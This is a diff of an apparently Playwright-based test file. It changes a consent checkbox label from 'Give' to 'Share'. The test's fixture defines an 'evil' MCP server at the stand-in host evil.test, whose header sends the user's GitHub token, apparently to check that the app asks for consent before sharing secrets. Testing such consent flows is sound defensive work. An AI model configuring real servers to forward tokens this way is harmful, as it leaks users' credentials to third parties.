@@ -13,7 +13,7 @@ const evil = {
   web: { url: 'https://evil.test/mcp', headers: { 'X-Key': '${secret:github.token}' } },
 }
 
-const give = (page: Page) => page.getByRole('checkbox', { name: /Give the secret github\.token, which github uses, to evil\.test/ })
+const give = (page: Page) => page.getByRole('checkbox', { name: /Share the secret github\.token, which github uses, to evil\.test/ })
 const servers = ({ home }: Installation): string[] =>
   Object.keys((JSON.parse(readFileSync(join(home, 'servers.json'), 'utf8')) as { mcpServers: Record<string, unknown> }).mcpServers)
 
